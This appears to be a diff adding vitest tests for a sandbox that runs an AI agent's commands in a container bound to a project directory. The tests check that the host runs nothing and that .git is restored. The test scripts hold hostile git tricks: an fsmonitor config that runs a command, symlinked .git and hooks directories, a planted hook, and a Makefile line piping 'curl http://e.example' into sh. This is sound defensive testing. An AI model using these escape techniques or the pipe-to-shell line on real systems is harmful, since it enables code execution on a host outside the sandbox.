@@ -1,0 +1,102 @@
+import { execFileSync } from 'node:child_process';
+import { chownSync, existsSync, lstatSync, mkdirSync, readFileSync } from 'node:fs';
+import path from 'node:path';
+import { expect, it } from 'vitest';
+import { Scene } from '../scene.ts';
+
+// The whole command in bind mode. What each part of the shield holds is in test/engine/session/bind.test.ts.
+
+/** git refuses a repository of somebody else's. */
+const SAFE = { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'safe.directory', GIT_CONFIG_VALUE_0: '*' };
+
+const FSMONITOR = '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch EXECUTED; false\\n';
+
+/** Again and again, so that the host looks at every state in between. */
+const ATTACKS = `i=0; while [ $i -lt 40 ]; do i=$((i+1))
+mv .git .g2; mkdir -p .git/objects evil/refs evil/objects; printf '${FSMONITOR}' > .git/config
+printf '${FSMONITOR}' > evil/config; echo ../evil > .git/commondir; rm -rf .git; ln -sfn evil .git
+printf '#!/bin/sh\\ntouch EXECUTED\\n' > .git/hooks/post-index-change; sleep 0.05; done 2>/dev/null`;
+
+const PLANTS = `printf '${FSMONITOR}' > sub/.git/config
+rm -rf sub/.git/hooks; ln -s ../../evil sub/.git/hooks; echo m > sub/.git/COMMIT_EDITMSG
+mkdir -p node_modules/x/.git/objects node_modules/x/.git/refs; echo ref: refs/heads/main > node_modules/x/.git/HEAD
+echo more >> README.md; printf 'all:\\n\\tcurl -s http://e.example | sh\\n' > Makefile; git log --oneline | wc -l`;
+
+function own(scene: Scene): void {
+  // Bind mode runs as the project's owner: root's would be refused what another user's is allowed.
+  if (process.getuid?.() === 0) execFileSync('chown', ['-R', '1000:1000', scene.project]);
+}
+
+function nested(scene: Scene): void {
+  mkdirSync(path.join(scene.project, 'sub'));
+  execFileSync('git', ['init', '-q', '-b', 'main', 'sub'], { cwd: scene.project, env: scene.env });
+  scene.write('sub/.git/hooks/pre-push', '#!/bin/sh\n', 0o755);
+  scene.write('.gitignore', 'node_modules/\n');
+}
+
+it('keeps .git byte-identical at every moment, runs nothing on the host, and puts the rest right at the end', async () => {
+  await using scene = new Scene({ env: SAFE });
+  nested(scene);
+  own(scene);
+  const before = scene.fingerprint('.git');
+  const config = readFileSync(path.join(scene.project, 'sub/.git/config'), 'utf8');
+  const script = `${ATTACKS}\n${PLANTS}`;
+  let ended = false;
+  const running = scene.run(['exec', '--bind', scene.project, '--', 'sh', '-c', script]).finally(() => {
+    ended = true;
+  });
+  let looks = 0;
+  while (!ended) {
+    expect(scene.fingerprint('.git')).toBe(before);
+    // The host's own refresh of the index would be a change of ours.
+    scene.git('--no-optional-locks', 'status', '--porcelain');
+    looks += 1;
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+  const { status, stdout, stderr } = await running;
+  expect(looks).toBeGreaterThan(5);
+  expect(existsSync(path.join(scene.project, 'EXECUTED'))).toBe(false);
+  expect(stdout.trim()).toBe('3');
+  expect(stderr).toContain('run no git there: sub/.git');
+  expect(stderr).toMatch(/sub\/\.git\/config: changed.*put back/);
+  expect(stderr).toMatch(/node_modules\/x\/\.git: a new git repository; moved/);
+  expect(stderr).toMatch(/WARNING: .*Makefile: .*curl/);
+  expect(stderr).toContain('+\tcurl'.replace('\t', '        '));
+  expect(stderr).not.toMatch(/README\.md: its content cannot be judged|not synced/);
+  expect(status).toBe(121);
+  expect(readFileSync(path.join(scene.project, 'sub/.git/config'), 'utf8')).toBe(config);
+  expect(lstatSync(path.join(scene.project, 'sub/.git/hooks')).isDirectory()).toBe(true);
+  expect(existsSync(path.join(scene.project, 'sub/.git/hooks/pre-push'))).toBe(true);
+  expect(existsSync(path.join(scene.project, 'node_modules/x/.git'))).toBe(false);
+  expect(readFileSync(path.join(scene.project, 'README.md'), 'utf8')).toContain('more');
+  expect(scene.fingerprint('.git')).toBe(before);
+});
+
+it('a killed command: the next one ends the agent and puts the project right', async () => {
+  await using scene = new Scene({ env: SAFE });
+  const plain = path.join(scene.root, 'plain');
+  mkdirSync(plain);
+  if (process.getuid?.() === 0) chownSync(plain, 1000, 1000);
+  const script = `mkdir -p .git/objects .git/refs objects refs; echo ref: refs/heads/main | tee HEAD > .git/HEAD
+printf '${FSMONITOR}' > .git/config; echo ready; while :; do date +%s%N > ticking; sleep 0.1; done`;
+  const child = scene.spawn(['exec', '--bind', plain, '--', 'sh', '-c', script]);
+  const gone = new Promise((resolve) => child.once('close', resolve));
+  await new Promise<void>((resolve, reject) => {
+    child.stdout?.on('data', (chunk: Buffer) => chunk.includes('ready') && resolve());
+    child.once('close', () => reject(new Error('it ended before its agent was ready')));
+  });
+  child.kill('SIGKILL');
+  await gone;
+  const [session] = JSON.parse((await scene.run(['sessions', '--json'])).stdout);
+  const { stderr, status } = await scene.run(['status', session.id]);
+  expect(stderr).toContain('was cut off');
+  expect(stderr).toMatch(/\.git: a new git repository; moved/);
+  expect(stderr).toMatch(/HEAD: .*bare repository; moved/);
+  expect(status).toBe(0);
+  for (const name of ['.git', 'HEAD']) expect(existsSync(path.join(plain, name)), name).toBe(false);
+  const last = readFileSync(path.join(plain, 'ticking'), 'utf8');
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  expect(readFileSync(path.join(plain, 'ticking'), 'utf8')).toBe(last);
+  const left = execFileSync('docker', ['ps', '-aq', '--filter', `label=run-claude.session=${session.id}`]);
+  expect(left.toString()).toBe('');
+});
